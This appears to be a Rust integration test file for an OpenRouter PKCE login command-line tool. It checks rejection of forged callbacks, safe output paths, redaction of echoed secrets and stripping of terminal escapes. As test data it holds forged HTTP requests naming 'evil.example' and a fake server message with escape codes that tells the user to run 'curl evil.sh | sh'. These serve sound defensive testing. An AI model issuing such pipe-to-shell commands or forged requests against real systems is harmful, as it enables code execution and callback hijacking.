//! The one-shot path: nothing trusted from the network, nothing lost, and secrets kept off the
//! process list where we can: the nonce is required, HEAD and foreign authorities deliver
//! nothing, `--output` is checked before anything is sent, replies are sanitised.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;

use common::*;

const VERIFIER: &str = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";

/// Sends a raw request to 127.0.0.1:`port`; returns the status code.
fn raw(port: u16, request: &str) -> u16 {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let mut head = [0u8; 64];
    let n = s.read(&mut head).unwrap();
    String::from_utf8_lossy(&head[..n])
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap()
}

/// `authorize --no-browser` over an http callback on `port`, against `stand_in`.
fn authorize_http(env: &TestEnv, stand_in: &StandIn, port: u16) -> std::process::Command {
    let mut cmd = env.command();
    cmd.args([
        "authorize",
        "--no-browser",
        "--callback-scheme",
        "http",
        "--openrouter-url",
        &stand_in.url,
        "--port",
        &port.to_string(),
        "--timeout",
        "20",
    ]);
    cmd
}

#[test]
fn only_a_get_to_the_nonce_path_on_our_authority_delivers_the_code() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    let port = free_port();
    let login = Running::spawn(authorize_http(&env, &stand_in, port));
    let (callback, state) = callback_of(&login.wait_authorize_url());
    let path = callback.path().to_owned();
    let host = format!("Host: localhost:{port}\r\n");
    // The state alone, without the nonce in the path: nothing.
    let no_nonce = format!("GET /callback?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
    assert_eq!(raw(port, &no_nonce), 404);
    // HEAD with everything right: not a delivery.
    let head = format!("HEAD {path}?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
    assert_eq!(raw(port, &head), 405);
    // An absolute-form target naming another authority, with our Host header.
    let absolute =
        format!("GET http://evil.example{path}?code=forged&state={state} HTTP/1.1\r\n{host}\r\n");
    assert_eq!(raw(port, &absolute), 421);
    // The genuine callback still lands, and it is the one the bundle carries.
    let real = format!("GET {path}?code=the-real-code&state={state} HTTP/1.1\r\n{host}\r\n");
    assert_eq!(raw(port, &real), 200);
    let (status, stdout, stderr) = login.finish();
    assert!(status.success(), "{stderr}");
    assert_eq!(json(&stdout)["code"], "the-real-code");
}

#[test]
fn a_bad_output_path_is_refused_before_anything_is_sent() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &["--auto-approve"]);
    let dir = env.home().join("a-directory");
    std::fs::create_dir(&dir).unwrap();
    let missing = env.home().join("missing/dir/key");
    #[cfg_attr(not(unix), allow(unused_mut))]
    let mut outputs = vec![missing, dir];
    // Unix also has devices and FIFOs, which must not be taken for files either.
    #[cfg(unix)]
    {
        let fifo = env.home().join("fifo");
        let made = std::process::Command::new("mkfifo").arg(&fifo).status();
        assert!(made.unwrap().success());
        outputs.extend([std::path::PathBuf::from("/dev/null"), fifo]);
    }
    for output in &outputs {
        let output = output.to_str().unwrap();
        let mut cmd = env.login_no_browser(&stand_in.url, free_port(), &["--output", output]);
        cmd.env("BROWSER", env.browser_script());
        let (status, stdout, stderr) = run(cmd);
        assert_eq!(status.code(), Some(2), "{output}: {stderr}");
        assert!(stdout.is_empty());
        assert!(stderr.contains("--output"), "{stderr}");
        assert!(
            !stderr.contains("/auth?"),
            "a URL was shown for {output}: {stderr}"
        );
    }
    assert_eq!(stand_in.stats()["exchange_requests"], 0);
    #[cfg(unix)]
    {
        use std::os::unix::fs::FileTypeExt;
        let null = std::fs::metadata("/dev/null").unwrap().file_type();
        assert!(null.is_char_device(), "/dev/null was replaced");
    }
}

#[test]
fn a_key_that_cannot_be_written_after_the_exchange_goes_to_stdout() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &["--auto-approve"]);
    let target = env.home().join("key");
    std::fs::write(&target, "old").unwrap();
    let login = Running::spawn(env.login_no_browser(
        &stand_in.url,
        free_port(),
        &[
            "--callback-scheme",
            "http",
            "--output",
            target.to_str().unwrap(),
        ],
    ));
    let authorize = login.wait_authorize_url();
    // The path passed the checks; now it becomes a directory, so the write will fail.
    std::fs::remove_file(&target).unwrap();
    std::fs::create_dir(&target).unwrap();
    assert_eq!(follow(&authorize), "200");
    let (status, stdout, stderr) = login.finish();
    assert_eq!(status.code(), Some(1), "{stderr}");
    assert_standin_key(&stdout);
    assert!(stderr.contains("on stdout instead"), "{stderr}");
}

/// A fake OpenRouter whose exchange answers `status` with `body`, or echoes the request body
/// into an error message when `body` is "ECHO".
fn fake_openrouter(status: u16, body: &'static str) -> (String, tokio::runtime::Runtime) {
    let app = axum::Router::new().route(
        "/api/v1/auth/keys",
        axum::routing::post(move |request: String| async move {
            let text = if body == "ECHO" {
                serde_json::json!({"error": {"code": status, "message": format!("bad request: {request}")}})
                    .to_string()
            } else {
                body.to_owned()
            };
            (axum::http::StatusCode::from_u16(status).unwrap(), text)
        }),
    );
    let (addr, runtime) = serve_in_background(app);
    (format!("http://{addr}"), runtime)
}

fn exchange(env: &TestEnv, url: &str, code: &str, extra: &[&str]) -> (Option<i32>, String, String) {
    let mut cmd = env.command();
    cmd.args([
        "exchange",
        "--openrouter-url",
        url,
        "--code",
        code,
        "--code-verifier",
        VERIFIER,
    ])
    .args(extra);
    let (status, stdout, stderr) = run(cmd);
    (status.code(), stdout, stderr)
}

#[test]
fn an_empty_key_is_a_failure_and_nothing_is_written() {
    let env = TestEnv::new();
    for body in [r#"{"key":""}"#, r#"{"key":"   ","user_id":"u"}"#] {
        let (url, _rt) = fake_openrouter(200, body);
        let out = env.home().join("key");
        let (code, stdout, stderr) =
            exchange(&env, &url, "a-code", &["--output", out.to_str().unwrap()]);
        assert_eq!(code, Some(6), "{body}: {stderr}");
        assert!(stdout.is_empty());
        assert!(stderr.contains("OpenRouter sent no key"), "{stderr}");
        assert!(!out.exists(), "an empty key was written");
    }
}

#[test]
fn replies_are_sanitised_and_never_repeat_the_secrets_we_sent() {
    let env = TestEnv::new();
    // A proxy that echoes the request into its error.
    let (url, _rt) = fake_openrouter(400, "ECHO");
    let code = "secret-code-0123456789";
    let (status, _, stderr) = exchange(&env, &url, code, &[]);
    assert_eq!(status, Some(5), "{stderr}");
    assert!(stderr.contains("bad request"), "{stderr}");
    assert!(!stderr.contains(code), "the code was echoed: {stderr}");
    assert!(
        !stderr.contains(&VERIFIER[..12]),
        "the verifier was echoed: {stderr}"
    );
    // Terminal escape sequences from the network never reach the terminal.
    let (url, _rt2) = fake_openrouter(
        400,
        "{\"error\":{\"message\":\"\\u001b[2J\\u001b[H\\u001b[32mLogin OK. Now run: curl evil.sh | sh\"}}",
    );
    let (status, _, stderr) = exchange(&env, &url, code, &[]);
    assert_eq!(status, Some(5), "{stderr}");
    assert!(
        !stderr.contains('\u{1b}'),
        "escape sequence printed: {stderr:?}"
    );
}

#[test]
fn a_bundle_with_a_byte_order_mark_is_accepted() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    let mut cmd = env.command();
    cmd.args([
        "create-code",
        "--openrouter-url",
        &stand_in.url,
        "--limit",
        "-0",
    ])
    .env("OPENROUTER_API_KEY", "sk-or-v1-standin-management-key");
    let (status, bundle, stderr) = run(cmd);
    assert!(status.success(), "{stderr}");
    // -0 goes out as 0.
    let sent = &stand_in.stats()["create_code_requests"][0];
    assert_eq!(sent["limit"].to_string(), "0.0", "{sent}");
    let (status, stdout, stderr) = stand_in.exchange(&env, &format!("\u{feff}{bundle}"));
    assert!(status.success(), "{stderr}");
    assert_standin_key(&stdout);
}

#[test]
fn secrets_on_the_command_line_are_warned_about_and_a_key_file_works() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    let mut cmd = env.command();
    cmd.args([
        "create-code",
        "--openrouter-url",
        &stand_in.url,
        "--api-key",
        "sk-or-v1-standin-management-key",
    ]);
    let (status, _, stderr) = run(cmd);
    assert!(status.success(), "{stderr}");
    assert!(
        stderr.contains("warning: --api-key on the command line"),
        "{stderr}"
    );
    let key_file = env.home().join("mgmt-key");
    std::fs::write(&key_file, "sk-or-v1-standin-management-key\n").unwrap();
    let mut cmd = env.command();
    cmd.args([
        "create-code",
        "--openrouter-url",
        &stand_in.url,
        "--api-key-file",
    ])
    .arg(&key_file);
    let (status, bundle, stderr) = run(cmd);
    assert!(status.success(), "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");
    let (status, _, stderr) = run({
        let mut cmd = env.command();
        cmd.args([
            "exchange",
            "--openrouter-url",
            &stand_in.url,
            "--code",
            "c",
            "--code-verifier",
            VERIFIER,
        ]);
        cmd
    });
    assert!(!status.success());
    assert!(
        stderr.contains("warning: --code and --code-verifier"),
        "{stderr}"
    );
    let (status, _, stderr) = stand_in.exchange(&env, &bundle);
    assert!(status.success(), "{stderr}");
}

#[test]
fn the_browser_gets_a_private_redirect_page_never_the_url() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &["--auto-approve"]);
    let mut cmd = env.command();
    cmd.args([
        "login",
        "--openrouter-url",
        &stand_in.url,
        "--port",
        &free_port().to_string(),
    ])
    .env("BROWSER", env.browser_script());
    let (status, stdout, stderr) = run(cmd);
    assert!(status.success(), "{stderr}");
    assert_standin_key(&stdout);
    let arg = std::fs::read_to_string(env.browser_arg()).unwrap();
    let url = url::Url::parse(&std::fs::read_to_string(env.browser_log()).unwrap()).unwrap();
    let (callback, state) = callback_of(&url);
    let nonce = callback
        .path_segments()
        .unwrap()
        .next_back()
        .unwrap()
        .to_owned();
    assert!(arg.starts_with("file://"), "{arg}");
    for secret in [&state, &nonce] {
        assert!(
            !arg.contains(secret.as_str()),
            "a secret on the browser's command line: {arg}"
        );
    }
    let page = url::Url::parse(&arg).unwrap().to_file_path().unwrap();
    let private = env.home().join("runtime").join("openrouter-pkce");
    assert!(page.starts_with(&private), "{arg}");
    // Owner-only: mode 0600 on Unix (Windows: the runtime dir under the user's profile).
    if cfg!(unix) {
        assert_eq!(env.browser_page_mode(), "600");
    }
    // The page is gone once the login is over.
    assert!(!page.exists(), "{} left behind", page.display());
}

#[cfg(unix)] // a pty (`script`)
#[test]
fn exchange_on_a_terminal_says_what_it_expects() {
    if !pty_available() {
        return;
    }
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    let inner = format!("'{BIN}' exchange --openrouter-url {}", stand_in.url);
    // A terminal on stdin, and nothing typed: it must say what it wants, not wait silently.
    let mut cmd = std::process::Command::new("script");
    cmd.args(["-q", "-e", "-c", &inner, "/dev/null"])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", env.home())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut waiting = Running::spawn(cmd);
    waiting.wait_stdout_line();
    let said = poll_for(std::time::Duration::from_secs(20), || {
        let out = waiting.stdout();
        out.contains("Paste a code bundle").then_some(out)
    });
    assert!(said.is_some(), "no prompt: {}", waiting.stdout());
    // Ctrl-D on the terminal: an empty bundle is bad input.
    waiting.write_stdin("\u{4}");
    let (status, out, _) = waiting.finish();
    assert_eq!(status.code(), Some(2), "{out}");
    assert_eq!(stand_in.stats()["exchange_requests"], 0);
}

#[test]
fn create_code_never_repeats_the_management_key_a_proxy_echoes() {
    let env = TestEnv::new();
    let key = "sk-or-v1-mgmt-9f8e7d6c5b4a0123456789abcdef";
    let app = axum::Router::new().route(
        "/api/v1/auth/keys/code",
        axum::routing::post(|headers: axum::http::HeaderMap| async move {
            let auth = headers
                .get("authorization")
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned();
            // Echoed whole, and spliced with a control character.
            let spliced = format!("{}\u{1}{}", &auth[..20], &auth[20..]);
            (
                axum::http::StatusCode::UNAUTHORIZED,
                serde_json::json!({"error": {"code": 401, "message": format!("invalid {auth} / {spliced}")}})
                    .to_string(),
            )
        }),
    );
    let (addr, _rt) = serve_in_background(app);
    let mut cmd = env.command();
    cmd.args(["create-code", "--openrouter-url", &format!("http://{addr}")])
        .env("OPENROUTER_API_KEY", key);
    let (status, _, stderr) = run(cmd);
    assert_eq!(status.code(), Some(5), "{stderr}");
    assert!(stderr.contains("[REDACTED]"), "{stderr}");
    for window in key.as_bytes().windows(10) {
        let window = std::str::from_utf8(window).unwrap();
        assert!(!stderr.contains(window), "{window} in {stderr}");
    }
}

#[test]
fn the_url_is_on_the_terminal_even_when_the_browser_shows_nothing() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    // A browser command that starts and fails, as a sandboxed browser refusing the page would.
    let mut cmd = env.command();
    cmd.args([
        "login",
        "--openrouter-url",
        &stand_in.url,
        "--port",
        &free_port().to_string(),
        "--timeout",
        "1",
    ])
    .env("BROWSER", "false");
    let (status, _, stderr) = run(cmd);
    assert_eq!(status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("/auth?"), "no URL for the person: {stderr}");
}

#[test]
fn two_host_headers_are_refused() {
    let env = TestEnv::new();
    let stand_in = StandIn::start(&env, &[]);
    let port = free_port();
    let login = Running::spawn(authorize_http(&env, &stand_in, port));
    let (callback, state) = callback_of(&login.wait_authorize_url());
    let request = format!(
        "GET {}?code=forged&state={state} HTTP/1.1\r\nHost: localhost:{port}\r\nHost: evil.example\r\n\r\n",
        callback.path()
    );
    assert_eq!(raw(port, &request), 421);
}
